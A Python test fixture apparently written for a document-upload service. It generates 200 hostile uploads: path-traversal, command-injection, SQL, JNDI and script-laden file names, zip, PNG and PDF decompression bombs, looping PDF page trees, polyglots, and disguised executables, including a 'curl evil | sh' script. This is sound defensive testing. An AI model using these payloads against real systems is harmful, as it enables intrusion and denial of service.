"""Two hundred hostile uploads, made anew by each run with the same seed: cut, renamed, locked, measureless, armed,
folded a thousand times, two things at once, badly named, or spoiled at random."""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf

from tests.intake import made

SEED = 20261124
NUMBER = 200


@dataclass(frozen=True, slots=True)
class Upload:
    """One upload. ``kept`` says what must become of it; ``None`` where either will do, with a sentence."""

    label: str
    name: str
    content: Callable[[], bytes]
    kept: bool | None


NAMES = (
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "C:x", "C:\\Users\\a.jpg", "/etc/shadow",
    "\\\\serveur\\partage\\a", "CON", "NUL.jpg", "a\x00.exe.jpg", "\x00", "\u202egpj.exe", "a\u200b.jpg",
    "x" * 5000, "é" * 5000, "", " ", ".", "..", "a\r\nSet-Cookie: x=1", "<script>alert(1)</script>.jpg",
    "'; DROP TABLE attachment; --", "%2e%2e%2f", "%", "%zz%", "{{7*7}}", "${jndi:ldap://x}", "facture (1).pdf.exe",
    "😀" * 300, "عقد الإيجار.pdf", "a\tb.jpg", "\ufeffa.jpg", "a/b/c.jpg", "~root", "$(reboot).jpg", "`id`", "|cat",
    "=1+1", "-rf", "\ud800.jpg", "\u2028x",
)  # fmt: skip


def uploads() -> Iterator[Upload]:
    """The two hundred."""
    found = list(_named_ones())
    found += _odd_names()
    found += _cut()
    found += _disguised()
    found += _two_things_at_once()
    chance = random.Random(SEED)
    found += [_spoiled(chance, number) for number in range(NUMBER - len(found))]
    assert len(found) == NUMBER
    return iter(found)


def _named_ones() -> Iterator[Upload]:
    def locked(strength: int, user: str) -> Callable[[], bytes]:
        sealed = pikepdf.Encryption(owner="a", user=user, R=strength, aes=strength > 3, metadata=strength > 3)  # type: ignore[arg-type]
        return lambda: made.changed(made.pdf(1, f"Chiffré {strength}"), lambda _: None, encryption=sealed)

    for strength in (3, 4, 6):
        yield Upload(f"PDF à mot de passe, R{strength}", "verrou.pdf", locked(strength, "b"), False)
        yield Upload(f"PDF à restrictions, R{strength}", "restreint.pdf", locked(strength, ""), True)
    for pages, kept in ((200, True), (201, False), (500, False), (3000, False)):
        yield Upload(f"PDF de {pages} pages", "long.pdf", lambda pages=pages: made.pdf(pages), kept)  # type: ignore[misc]
    yield Upload("JPEG de 200 mégapixels", "geant.jpg", lambda: made.wide_jpeg(16_000, 12_500), True)
    yield Upload("JPEG de 400 mégapixels", "geant.jpg", lambda: made.wide_jpeg(20_000, 20_000), False)
    yield Upload(
        "JPEG progressif de 100 mégapixels",
        "geant.jpg",
        lambda: made.wide_jpeg(10_000, 10_000, progressive=True),
        False,
    )
    yield Upload("PNG de 1,6 gigapixel", "bombe.png", made.png_bomb, False)
    yield Upload(
        "PNG de 49 mégapixels à transparence",
        "grand.png",
        lambda: made.saved(made.paper((7000, 7000)).convert("RGBA"), "PNG"),
        None,
    )
    yield Upload("photographie de 48 mégapixels", "photo.jpg", lambda: made.photograph(48), True)
    yield Upload("PDF armé de tout", "arme.pdf", made.acting, True)
    yield Upload("formulaire rempli", "cerfa.pdf", made.filled_form, True)
    yield Upload("formulaire rempli sans apparence", "cerfa2.pdf", lambda: made.filled_form(False), True)
    yield Upload("numérisation lourde", "scan.pdf", lambda: made.heavy_scan(5), True)
    yield Upload("flux plié", "bombe.pdf", lambda: made.stream_bomb(1, 400_000_000), False)
    yield Upload("flux plié deux fois", "bombe2.pdf", lambda: made.stream_bomb(2, 400_000_000), False)
    yield Upload("flux plié quatre fois", "bombe4.pdf", lambda: made.stream_bomb(4, 400_000_000), False)
    yield Upload("dessin dans le dessin", "rires.pdf", made.drawing_bomb, False)
    yield Upload("arbre de pages en boucle", "boucle.pdf", lambda: made.changed(made.pdf(2), _loop), None)
    yield Upload("image PDF démesurée", "mesure.pdf", lambda: made.changed(made.pdf(), _measureless), None)
    yield Upload(
        "tableaux emboîtés", "fond.pdf", lambda: b"%PDF-1.7\n1 0 obj\n" + b"[" * 200_000 + b"\nendobj\n", False
    )
    yield Upload("archive qui se déplie", "bombe.zip", _zip_bomb, False)
    yield Upload("fichier vide", "vide.pdf", lambda: b"", False)
    yield Upload("un octet", "a.jpg", lambda: b"\xff", False)
    yield Upload("que des zéros", "zeros.jpg", lambda: bytes(3_000_000), False)
    yield Upload("trop lourd", "lourd.pdf", lambda: made.pdf() + bytes(40_000_000), False)
    for number in range(8):
        yield Upload(
            f"jumeau de nom {number}", "recto.jpg", lambda n=number: made.saved(made.paper((300 + n, 400))), True
        )  # type: ignore[misc]


def _odd_names() -> list[Upload]:
    return [
        Upload(f"nom {name[:24]!r}", name, lambda n=number: made.pdf(1, f"Nom {n}"), True)  # type: ignore[misc]
        for number, name in enumerate(NAMES)
    ]


WHOLE: dict[str, Callable[[], bytes]] = {
    "jpg": lambda: made.photograph(1),
    "png": lambda: made.saved(made.paper((900, 1200)).effect_spread(20), "PNG"),
    "webp": lambda: made.saved(made.paper((900, 1200)).effect_spread(20), "WEBP"),
    "heic": lambda: made.saved(made.paper((900, 1200)).effect_spread(20), "HEIF"),
    "pdf": lambda: made.pdf(3, "Fichier coupé"),
}


def _cut() -> list[Upload]:
    def part(kind: str, kept: float) -> Callable[[], bytes]:
        return lambda: (whole := WHOLE[kind]())[: int(len(whole) * kept)]

    return [
        Upload(f"{kind} coupé à {kept:.0%}", f"coupe.{kind}", part(kind, kept), None if kind == "pdf" else False)
        for kind in WHOLE
        for kept in (0.03, 0.2, 0.5, 0.8, 0.97)
    ]


def _disguised() -> list[Upload]:
    inside: tuple[tuple[str, bytes], ...] = (
        ("word", _zipped("word/document.xml")), ("excel", _zipped("xl/workbook.xml")), ("zip", _zipped("photo.jpg")),
        ("vieux word", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)), ("programme", b"MZ\x90\x00" + bytes(2000)),
        ("elf", b"\x7fELF\x02\x01" + bytes(500)), ("script", b"#!/bin/sh\ncurl evil | sh\n"),
        ("html", b"<!DOCTYPE html><script>fetch('/dossiers')</script>"), ("svg", b"<svg onload='alert(1)'/>"),
        ("mp4", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00isom" + bytes(900)), ("mp3", b"ID3\x04" + bytes(900)),
        ("gif", b"GIF89a\x01\x00\x01\x00" + bytes(50)), ("tiff", b"II*\x00\x08\x00\x00\x00" + bytes(90)),
        ("texte", b"Bonjour, voici ma facture.\n"), ("raccourci", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(90)),
    )  # fmt: skip
    endings = ("pdf", "jpg", "heic")
    return [
        Upload(f"{what} déguisé", f"facture.{endings[number % 3]}", lambda c=content: c, False)  # type: ignore[misc]
        for number, (what, content) in enumerate(inside)
    ]


def _two_things_at_once() -> list[Upload]:
    picture, document, archive = made.saved(made.paper((320, 400))), made.pdf(1, "Polyglotte"), _zipped("word/a.xml")
    page = b"<html><script>alert(document.cookie)</script></html>"
    both: tuple[tuple[str, bytes, bool | None], ...] = (
        ("image puis archive", picture + archive, True), ("image puis page", picture + page, True),
        ("image puis PDF", picture + document, True), ("PDF puis archive", document + archive, True),
        ("PDF puis page", document + page, True), ("PDF puis image", document + picture, True),
        ("archive puis PDF", archive + document, False), ("page puis PDF", page + document, False),
        ("GIF puis script", b"GIF89a/*" + b"*/=1;alert(1)" + document, False),
        ("programme puis PDF", b"MZ" + bytes(100) + document, False),
        ("blancs puis PDF", b" " * 900 + document, None), ("PDF trop loin", b"\x01" * 5000 + document, False),
        ("commentaire qui est une page", made.saved(made.paper((330, 400)), comment=page), True),
        ("PNG puis archive", made.saved(made.paper((340, 400)), "PNG") + archive, True),
        ("PDF deux fois", document + made.pdf(2, "Second"), None),
    )  # fmt: skip
    return [Upload(label, "double.pdf", lambda c=content: c, kept) for label, content, kept in both]  # type: ignore[misc]


def _spoiled(chance: random.Random, number: int) -> Upload:
    """A sound file with bytes changed at random."""
    kind = sorted(WHOLE)[number % len(WHOLE)]
    seed = chance.random()

    def spoil() -> bytes:
        dice, content = random.Random(seed), bytearray(WHOLE[kind]())
        for _ in range(dice.choice((1, 5, 50, 500))):
            content[dice.randrange(len(content))] = dice.randrange(256)
        return bytes(content)

    return Upload(f"{kind} abîmé au hasard {number}", f"abime.{kind}", spoil, None)


def _zipped(*names: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in names:
            archive.writestr(name, "x")
    return out.getvalue()


def _zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a", bytes(200_000_000))
    return out.getvalue()


def _loop(document: Pdf) -> None:
    kids = document.Root.Pages.Kids
    kids.append(document.Root.Pages)
    document.Root.Pages.Count = 1_000_000


def _measureless(document: Pdf) -> None:
    picture = document.make_stream(b"\x00" * 100)
    picture.update({
        "/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 2_000_000, "/Height": 2_000_000,
        "/ColorSpace": Name.DeviceRGB, "/BitsPerComponent": 8,
    })  # fmt: skip
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im=picture))
    document.pages[0].obj.Contents = document.make_stream(b"q 595 0 0 842 0 0 cm /Im Do Q")
    document.pages[0].obj.MediaBox = Array([0, 0, 595, 842])
